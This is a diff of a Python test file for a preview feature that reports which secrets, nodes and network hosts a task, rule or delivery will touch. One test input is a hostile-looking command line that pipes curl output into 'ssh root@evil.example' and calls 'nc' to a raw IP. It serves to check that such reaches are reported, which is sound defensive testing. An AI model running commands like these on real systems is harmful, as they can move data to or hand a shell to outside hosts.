@@ -56,7 +56,7 @@ def test_the_preview_tells_what_will_run_be_read_and_be_reached(site: Site) -> N
 
     assert told(site, "task", "other", {"nodes": {"say": say}}) == set()
     assert told(site, "task", "other", {"nodes": {"say": say, "more": {"job": "fetch"}}}) == {
-        ("node", "more"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"), ("reach", "127.0.0.1:9"),
+        ("node", "more"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"),
     }  # fmt: skip
     process = 'curl "http://old.example/a" | ssh root@evil.example; nc 10.9.8.7 80; scp x "https://new.example:8443/b"'
     assert told(site, "task", "other", {"nodes": {"say": {**say, "process": process}}}) == {
@@ -73,7 +73,7 @@ def test_the_preview_tells_what_will_run_be_read_and_be_reached(site: Site) -> N
     }
     rule = {"id": "again", "match": {"code": -12000000000}, "action": {"run": {"task": "daily"}}}
     assert told(site, "rule", "again", rule) == {
-        ("rule", "task daily"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"), ("reach", "127.0.0.1:9"),
+        ("rule", "task daily"), ("secret", "api-key"), ("reach", "http://127.0.0.1:9/"),
     }  # fmt: skip
     assert ("used", "task daily") in told(
         site, "job", "fetch", {"type": "http", "resource": "api", "method": "POST"}
@@ -145,7 +145,7 @@ def test_what_a_delivery_was_shown_to_bring_is_what_it_brings(tmp_path: Path) ->
     assert refused["error"]["code"] == -15021011000
     assert site("delivery", "list")["deliveries"] == []
     text = site.text("delivery", "preview", tmp_path / "a.skerry")
-    assert "task night reaches http://evil.example/" in text
+    assert "task night may reach http://evil.example/" in text
 
 
 def test_a_fix_is_applied_only_as_it_was_shown(tmp_path: Path) -> None:
